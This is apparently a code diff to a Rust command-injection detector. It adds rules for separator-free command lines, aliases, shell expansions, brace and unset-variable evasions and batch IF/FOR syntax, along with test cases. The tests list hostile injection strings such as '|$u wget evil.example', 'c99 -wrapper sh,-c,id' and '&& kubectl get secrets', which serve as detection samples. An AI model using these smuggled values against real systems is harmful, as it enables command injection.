@@ -248,6 +248,8 @@ const WEAK: &[&[u8]] = &[
     b"service",
     b"bridge",
     b"ansible",
+    b"flock",
+    b"ip",
 ];
 
 fn command_class(word: &[u8]) -> Option<bool> {
@@ -263,7 +265,7 @@ fn command_class(word: &[u8]) -> Option<bool> {
         .rposition(|c| !(c.is_ascii_digit() || *c == b'.'))
         .map_or(0, |i| i + 1);
     let base = if cut > 0
-        && known(&base[..cut]) == Some(true)
+        && known(&base[..cut]).is_some()
         && base[cut..].first().is_some_and(u8::is_ascii_digit)
     {
         &base[..cut]
@@ -420,7 +422,8 @@ fn argument_follows(b: &[u8], i: usize, substitution: bool) -> bool {
     match b.get(j) {
         None => j == i || substitution || i == b.len(),
         Some(c) => {
-            starts_argument(*c)
+            subcommand_option(b, i, j)
+                || starts_argument(*c)
                 || matches!(c, b'.' | b'%' | b',' | b'\n' | b'\r')
                 || c.is_ascii_digit()
                 || (c.is_ascii_alphabetic() && b.get(j + 1) == Some(&b':'))
@@ -428,6 +431,22 @@ fn argument_follows(b: &[u8], i: usize, substitution: bool) -> bool {
                 || (*c == b'(' && j > 0 && b[j - 1] == b'$')
         }
     }
+}
+
+/// A subcommand at `j` (after spaces from `i`), then an option: `ansible all -m ping`,
+/// `git log --all`.
+fn subcommand_option(b: &[u8], i: usize, j: usize) -> bool {
+    if j == i || !b[j].is_ascii_lowercase() {
+        return false;
+    }
+    let w = j + b[j..].iter().take_while(|c| c.is_ascii_lowercase()).count();
+    let o = w + 1;
+    let dashes = b[o.min(b.len())..]
+        .iter()
+        .take(2)
+        .take_while(|c| **c == b'-')
+        .count();
+    b.get(w) == Some(&b' ') && dashes > 0 && b.get(o + dashes).is_some_and(u8::is_ascii_alphabetic)
 }
 
 /// Byte classes that separate or substitute commands.
@@ -461,6 +480,7 @@ pub(crate) fn needs() -> Needs {
         .or_keywords(RUNS_ARGUMENT.iter().map(|(command, _)| command))
         .or_keywords(cmdlets)
         .or_words(FAMILIES)
+        .or_words(&[" -", "alias "])
         .always_from(2)
 }
 
@@ -490,13 +510,19 @@ pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
         }
     }
     if s.has(class::SPACE) {
-        if let Some(h) = batch(b) {
-            return Some(h);
-        }
-        if let Some(h) = interpreter(b) {
+        if let Some(h) = batch(b)
+            .or_else(|| interpreter(b))
+            .or_else(|| command_line(b))
+        {
             return Some(h);
         }
     }
+    if s.has(class::DOLLAR) {
+        if let Some(h) = expansion(b) {
+            return Some(h);
+        }
+    }
+
     if s.paranoia >= 2 || s.has(SEPARATORS) {
         if let Some(h) = chains(b, s.paranoia) {
             return Some(h);
@@ -603,8 +629,17 @@ fn batch(b: &[u8]) -> Option<Hit> {
 fn batch_token(b: &[u8], i: usize) -> (usize, usize) {
     let s = super::subject::skip_space(b, i);
     if b.get(s) == Some(&b'(') {
-        if let Some(e) = memchr::memchr(b')', &b[s + 1..]) {
-            return (s, s + 1 + e + 1);
+        let mut depth = 0usize;
+        let close = b[s..].iter().position(|c| {
+            match c {
+                b'(' => depth += 1,
+                b')' => depth -= 1,
+                _ => {}
+            }
+            depth == 0
+        });
+        if let Some(e) = close {
+            return (s, s + e + 1);
         }
     }
     let mut e = s;
@@ -640,7 +675,7 @@ fn batch_for(b: &[u8], mut i: usize) -> Option<usize> {
             let d = super::subject::skip_space(b, e);
             return b[d..].starts_with(b"do").then_some(d + 2);
         }
-        if !matches!(b[s], b'/' | b'"') && !b[s..e].contains(&b':') {
+        if !matches!(b[s], b'/' | b'"' | b'\\') && !b[s..e].contains(&b':') {
             return None;
         }
     }
@@ -658,9 +693,20 @@ fn batch_if(b: &[u8], i: usize) -> Option<usize> {
         return None;
     }
     let word = &b[s..e];
+    let compares = |w: &[u8]| {
+        w.split(|c| c.is_ascii_whitespace()).any(|t| {
+            matches!(
+                t,
+                b"==" | b"equ" | b"neq" | b"lss" | b"leq" | b"gtr" | b"geq"
+            )
+        })
+    };
+    let joined = find(word, b"==").is_some_and(|p| p > 0 && p + 2 < word.len());
     let rest = match word {
         b"exist" | b"defined" | b"errorlevel" | b"cmdextversion" => batch_token(b, e).1,
-        _ if find(word, b"==").is_some_and(|p| p > 0 && p + 2 < word.len()) => e,
+        // `IF (2 GEQ 15) echo`: the condition in parentheses.
+        _ if word[0] == b'(' && compares(word) => e,
+        _ if joined => e,
         _ => {
             let (os, oe) = batch_token(b, e);
             let op = &b[os..oe];
@@ -676,19 +722,96 @@ fn batch_if(b: &[u8], i: usize) -> Option<usize> {
     };
     // Then a command (or a block): one with a batch variable, or a known command word.
     let (cs, ce) = batch_token(b, rest);
-    if cs == ce {
-        return None;
-    }
     let variable = b[s..rest].contains(&b'%');
+    if variable && cs == ce {
+        // `if not {%1} == {}`: a complete condition on a batch variable ends the value.
+        return Some(rest);
+    }
     let exist = matches!(
         word,
         b"exist" | b"defined" | b"errorlevel" | b"cmdextversion"
     );
+    if cs == ce {
+        return None;
+    }
+    // `if a==b foo`: `==` with nothing around it is batch, not pseudo-code (`if a==b then`).
+    let code_word = matches!(
+        &b[cs..ce],
+        b"then" | b"and" | b"or" | b"return" | b"{" | b"?"
+    );
     let command = b[cs] == b'('
         || b[cs] == b'@'
         || command_class(&b[cs..ce]).is_some()
-        || matches!(&b[cs..ce], b"goto" | b"md" | b"else");
+        || matches!(&b[cs..ce], b"goto" | b"md" | b"else")
+        || (joined && !code_word && b[cs].is_ascii_alphanumeric());
     (command || ((variable || exist) && ce > cs)).then_some(ce)
+}
+
+/// A value that is a command line with no separator: a command word with no ordinary-language
+/// meaning (`c99`, `nmap`, `kubectl`) followed by an option (`-wrapper`, `--version`),
+/// directly or after a subcommand (`kubectl get -A`); or an `alias name=value` definition.
+fn command_line(b: &[u8]) -> Option<Hit> {
+    let start = super::subject::skip_space(b, 0);
+    let mut words = b[start..b.len().min(start + 128)]
+        .split(|c| *c == b' ')
+        .filter(|w| !w.is_empty());
+    let first = words.next()?;
+    let first = first
+        .strip_prefix(b"'")
+        .and_then(|w| w.strip_suffix(b"'"))
+        .unwrap_or(first);
+    let end = (start + first.len() + 2).min(b.len());
+    let second = words.next()?;
+    if first == b"alias" {
+        // `alias ll='ls -l'`, `alias -g x=y`: a name, `=`, a value.
+        let defines = |w: &[u8]| {
+            w.iter()
+                .position(|c| *c == b'=')
+                .is_some_and(|e| e > 0 && e + 1 < w.len())
+        };
+        let third = words.next();
+        let def = defines(second)
+            || (second
+                .iter()
+                .all(|c| matches!(c, b'-' | b'+') || c.is_ascii_alphabetic())
+                && !second.iter().all(u8::is_ascii_alphabetic)
+                && third.is_some_and(defines));
+        return def.then(|| Hit::new("cmdi.command_chain", start, end));
+    }
+    let option = |w: &[u8]| -> bool {
+        let body = w.strip_prefix(b"--").or_else(|| w.strip_prefix(b"-"));
+        body.is_some_and(|r| {
+            r.first().is_some_and(u8::is_ascii_alphabetic)
+                && r.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'-')
+        })
+    };
+    let subcommand = second.iter().all(u8::is_ascii_lowercase);
+    // Only a command with no ordinary-language meaning (looked up last, the option is
+    // cheaper to rule out): a value opening with `sort -by` or `make -j` may be a phrase.
+    let hit = (option(second) || (subcommand && words.next().is_some_and(option)))
+        && command_class(first) == Some(true);
+    hit.then(|| Hit::new("cmdi.command_chain", start, end))
+}
+
+/// Shell expansions no other syntax writes: arithmetic `$((…))` and pattern removal from a
+/// parameter (`${PATH#*/}`, `${x%%.*}`).
+fn expansion(b: &[u8]) -> Option<Hit> {
+    for p in memchr::memchr_iter(b'$', b) {
+        let rest = &b[p + 1..b.len().min(p + 64)];
+        if rest.starts_with(b"((") && find(rest, b"))").is_some() {
+            return Some(Hit::new("cmdi.substitution", p, p + 3));
+        }
+        if let Some(r) = rest.strip_prefix(b"{") {
+            let name = r
+                .iter()
+                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
+                .count();
+            if name > 0 && matches!(r.get(name), Some(b'#' | b'%')) && r[name..].contains(&b'}') {
+                return Some(Hit::new("cmdi.shell_evasion", p, p + 2 + name + 1));
+            }
+        }
+    }
+    None
 }
 
 /// Absolute paths spelled with shell globs (`/???/c?t`, `/etc/[p]asswd`, `/bi[n]/bash`) that
@@ -803,6 +926,7 @@ fn chains(b: &[u8], paranoia: u8) -> Option<Hit> {
             b'`' => (i + 1, true),
             b'$' | b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (i + 2, true),
             // Brace expansion `{cat,/etc/passwd}` runs its first word.
+            b'{' if b.get(i + 1) == Some(&b',') && brace_command(b, i + 2) => (i + 2, false),
             b'{' if brace_command(b, i + 1) => (i + 1, false),
             _ => {
                 i += 1;
@@ -915,7 +1039,18 @@ fn command_at(b: &[u8], sep: usize, at: usize, substitution: bool, start: bool) 
     if b.get(w.end) == Some(&b',') && b.get(sep) != Some(&b'{') {
         return None;
     }
-    let class = command_class(word)?;
+    let class = match command_class(word) {
+        Some(c) => c,
+        // `{l,-lh}s`: brace expansion glues the text after `}` to each element.
+        None if sep < b.len() && b[sep] == b'{' => return braced_word(b, sep, word),
+        // `$u wget`: an unset variable before the command expands to nothing.
+        None if is_unset_variable(word) && b.get(w.end) == Some(&b' ') => {
+            let next = read_word(b, w.end);
+            return (command_class(&next.text[..next.len]) == Some(true))
+                .then(|| Hit::new("cmdi.shell_evasion", sep, next.end));
+        }
+        None => return None,
+    };
     let args = argument_follows(b, w.end, substitution);
     if start {
         // Paranoia 2: a whole value that is a command line.
@@ -945,6 +1080,38 @@ fn command_at(b: &[u8], sep: usize, at: usize, substitution: bool, start: bool) 
     None
 }
 
+/// `$name`: a variable reference standing alone as a word.
+fn is_unset_variable(word: &[u8]) -> bool {
+    word.len() >= 2
+        && word[0] == b'$'
+        && word[1..]
+            .iter()
+            .all(|c| c.is_ascii_lowercase() || *c == b'_')
+}
+
+/// The command a brace expansion opened at `open` spells when its first element `first` is
+/// glued to the text after the closing brace (`{l,-lh}s` runs `ls -lh`).
+fn braced_word(b: &[u8], open: usize, first: &[u8]) -> Option<Hit> {
+    let close = open + memchr::memchr(b'}', &b[open..b.len().min(open + 64)])?;
+    let inner = &b[open + 1..close];
+    if inner.iter().any(u8::is_ascii_whitespace) {
+        return None;
+    }
+    let suffix_len = b[close + 1..]
+        .iter()
+        .take_while(|c| c.is_ascii_alphanumeric())
+        .count();
+    if suffix_len == 0 || first.len() + suffix_len > 32 {
+        return None;
+    }
+    let mut word = [0u8; 32];
+    word[..first.len()].copy_from_slice(first);
+    word[first.len()..first.len() + suffix_len]
+        .copy_from_slice(&b[close + 1..close + 1 + suffix_len]);
+    command_class(&word[..first.len() + suffix_len])
+        .map(|_| Hit::new("cmdi.shell_evasion", open, close + 1 + suffix_len))
+}
+
 fn brace_command(b: &[u8], i: usize) -> bool {
     if !b
         .get(i)
@@ -966,6 +1133,17 @@ fn shell_paths(b: &[u8]) -> Option<Hit> {
     for needle in [&b"/bin/"[..], b"/sbin/"] {
         for p in memchr::memmem::find_iter(b, needle) {
             let w = read_word(b, p + needle.len());
+            // The whole value a program's path (`/bin/ab`, `/usr/sbin/xyz`): it will be run.
+            let whole = w.len > 0
+                && w.end == b.trim_ascii_end().len()
+                && b[..p]
+                    .trim_ascii_start()
+                    .iter()
+                    .all(|c| c.is_ascii_lowercase() || *c == b'/')
+                && matches!(b.trim_ascii_start().first(), Some(b'/'));
+            if whole {
+                return Some(Hit::new("cmdi.shell_path", 0, w.end));
+            }
             if command_class(&w.text[..w.len]).is_some() {
                 let from = p.saturating_sub(256);
                 let start = b[from..p]
@@ -1049,6 +1227,25 @@ mod tests {
             "&& kubectl get secrets",
             "; visudo",
             "; aptitude -y install nmap",
+            // Command lines without a separator, aliases, expansions, brace and batch forms.
+            "nmap -sV 10.0.0.1",
+            "kubectl get -A",
+            "c99 -wrapper sh,-c,id",
+            "alias ll='ls -l'",
+            "alias -g x=y",
+            "$((7))z -x",
+            "${PATH#*/}",
+            "{,ip,a}",
+            "{l,-lh}s",
+            "|$u wget evil.example",
+            ";gcc10.1<<<x",
+            "; flock -u / id",
+            "time; ansible all -m ping",
+            "/bin/ab",
+            "IF (2 GEQ 15) echo big",
+            "if /i a==b foo",
+            "if not {%1} == {}",
+            "& for /f \\\"delims=\\\" %i in ('cmd /c \\\"set /a (6+2)\\\"') do @set x",
         ] {
             assert!(rule(a).is_some(), "missed {a}");
         }
@@ -1083,6 +1280,28 @@ mod tests {
             "Packing list\nshoes\nwhoami badge\nsocks",
             "ping is a verb; curl is a noun here.",
             "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB",
+            // Options, aliases, tildes and paths in prose and data.
+            "Paris - France",
+            "Sort -by name is not a flag",
+            "Cut -off date",
+            "Python -- the language",
+            "node - a vertex",
+            "rock; time all - day",
+            "Q&A; find out -- more",
+            "Make -believe",
+            "time - 5 minutes",
+            "cat -- a poem",
+            "Find more at -- the shop",
+            "alias John Smith",
+            "alias: Johnny",
+            "${name} says hi",
+            "${total}% off",
+            "{red,green}s",
+            "see /bin/ab for details",
+            "https://example.com/bin/tool",
+            "if x==y then z",
+            "if (a == b) return",
+            "/usr/local/bin/",
         ] {
             assert_eq!(rule(b), None, "false positive on {b}");
         }
